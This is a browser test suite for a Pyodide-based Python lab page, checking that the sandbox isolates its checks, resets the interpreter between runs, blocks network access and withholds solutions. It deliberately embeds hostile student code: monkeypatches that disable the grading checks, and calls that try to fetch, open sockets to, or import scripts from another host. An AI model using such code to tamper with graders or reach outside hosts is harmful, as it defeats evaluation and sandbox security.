"""A hostile student in the lab page: the checks stay apart, nothing leaks into the next run, the
code reaches no other host, and no solution is in the page before the rule it states allows it.

The checks run in a worker that never runs the student's code; the student's worker is replaced
whenever the code changed the interpreter; both workers are created under a Content-Security-Policy
that allows this site only (hvlab/site/js/lab/isolated-worker.js).
"""

from __future__ import annotations

import html
import http.server
import re
import threading
from collections.abc import Iterator
from typing import Any

import pytest
from playwright.sync_api import expect

from hvlab.labs.loader import load_lab
from hvlab.labs.model import Lab
from tests.browser.test_lab import (
    LAB_ID,
    TIMEOUT_MS,
    click,
    open_lab,
    set_code,
    step,
    wait_checks_ready,
    wait_ready,
)
from tests.conftest import ROOT, ServedSite


@pytest.fixture(scope="module")
def lab() -> Lab:
    return load_lab(ROOT / "labs" / LAB_ID)


@pytest.fixture
def other_host() -> Iterator[tuple[str, list[str]]]:
    """Another origin (another port) that records every request it gets."""
    hits: list[str] = []

    class Recorder(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            hits.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()
            self.wfile.write(b"secret")

        def log_message(self, format: str, *args: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Recorder)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", hits
    finally:
        server.shutdown()
        server.server_close()


PATCHES = (
    "import builtins, math\n"
    "import hvlab.labs.checks as c\n"
    "import hvlab.labs.judge as j\n"
    "c.expect_var = lambda ns, name: 1\n"
    "c.expect_close = lambda *a, **k: None\n"
    "j.check_namespace = lambda *a, **k: None\n"
    "math.isclose = lambda *a, **k: True\n"
    "builtins.AssertionError = type('Rien', (Exception,), {})\n"
)


def test_patching_the_checks_in_the_page_does_not_pass_a_wrong_answer(
    page: Any, served_site: ServedSite, lab: Lab
) -> None:
    open_lab(page, served_site)
    total = len(re.findall(r"^def check_", lab.steps[0].checks, flags=re.MULTILINE))
    set_code(page, 1, PATCHES + lab.steps[0].starter)
    wait_checks_ready(page)
    click(page, 1, "Vérifier")
    summary = step(page, 1).locator(".hvlab-lab-check-summary")
    expect(summary).to_have_text(f"✗ 0 vérification sur {total} réussie.")
    expect(page.locator(".hvlab-lab-progress")).to_contain_text(f"0 sur {len(lab.steps)}")


def test_a_change_to_the_interpreter_does_not_survive_into_the_next_run(
    page: Any, served_site: ServedSite, lab: Lab
) -> None:
    open_lab(page, served_site)
    wait_ready(page)
    set_code(page, 1, PATCHES + "import hvlab.sim\nhvlab.sim.generate_fleet = None\nprint('fait')")
    click(page, 1, "Exécuter")
    expect(step(page, 1).locator(".hvlab-lab-stdout")).to_have_text("fait\n")
    set_code(page, 1, "import math\nprint(math.isclose(1, 2), AssertionError.__name__)")
    click(page, 1, "Exécuter")
    expect(step(page, 1).locator(".hvlab-lab-stdout")).to_have_text("False AssertionError\n")
    set_code(page, 1, lab.steps[0].solution)
    wait_checks_ready(page)
    click(page, 1, "Vérifier")
    expect(step(page, 1).locator(".hvlab-lab-check-summary")).to_contain_text("✓")


def test_the_code_reaches_no_other_host(
    page: Any, served_site: ServedSite, other_host: tuple[str, list[str]]
) -> None:
    url, hits = other_host
    open_lab(page, served_site)
    code = (
        "import js\n"
        "from pyodide.http import open_url\n"
        "try:\n"
        f"    print('lu :', open_url('{url}/a').read())\n"
        "except Exception as exc:\n"
        "    print('open_url refusé')\n"
        f"js.fetch('{url}/b')\n"
        f"js.WebSocket.new('{url.replace('http', 'ws')}/c')\n"
        f"js.EventSource.new('{url}/d')\n"
        "try:\n"
        f"    js.eval(\"import('{url}/e.js')\")\n"
        "except Exception as exc:\n"
        "    print('eval refusé')\n"
        "print('fin')\n"
    )
    set_code(page, 1, code)
    click(page, 1, "Exécuter")
    expect(step(page, 1).locator(".hvlab-lab-stdout")).to_have_text(
        "open_url refusé\neval refusé\nfin\n"
    )
    page.wait_for_timeout(1500)  # time for any request that would have left
    assert hits == []


def test_the_page_holds_no_solution_until_the_rule_allows_it(
    page: Any, served_site: ServedSite, lab: Lab
) -> None:
    requested: list[str] = []
    page.context.on("request", lambda request: requested.append(request.url))
    open_lab(page, served_site)
    source = page.content()
    data = " ".join(
        page.evaluate(
            "[...document.querySelectorAll('section.hvlab-lab-step')].map(s => s.dataset.json)"
        )
    )
    shown = html.unescape(source) + data
    # Later steps start from earlier answers: lines of any starter are not secrets.
    given = {line for item in lab.steps for line in item.starter.splitlines()}
    for item in lab.steps:
        # Distinctive lines only: « ) » or « demandes, » appear anywhere.
        own = [line for line in set(item.solution.splitlines()) - given if len(line.strip()) >= 25]
        assert own
        leaked = [line for line in own if line in shown]
        assert leaked == [], f"step {item.id}: solution lines in the page: {leaked}"
    solution = step(page, 1).get_by_role("button", name="Voir la solution", exact=True)
    expect(solution).to_be_disabled()
    expect(solution).to_have_attribute("title", re.compile("Disponible après 3 vérifications"))
    assert not [url for url in requested if "/solutions/" in url]
    # The rule met (attempts kept in the browser): the solution is fetched and shown.
    page.evaluate(f"localStorage.setItem('hvlab-lab:{LAB_ID}:{lab.steps[0].id}:attempts', '3')")
    page.reload(wait_until="load")
    page.locator("section.hvlab-lab-step .cm-content").first.wait_for()
    step(page, 1).get_by_role("button", name="Voir la solution", exact=True).click()
    expect(step(page, 1).locator(".hvlab-lab-solution pre")).to_have_text(
        lab.steps[0].solution, timeout=TIMEOUT_MS
    )
    assert [url for url in requested if "/solutions/" in url]
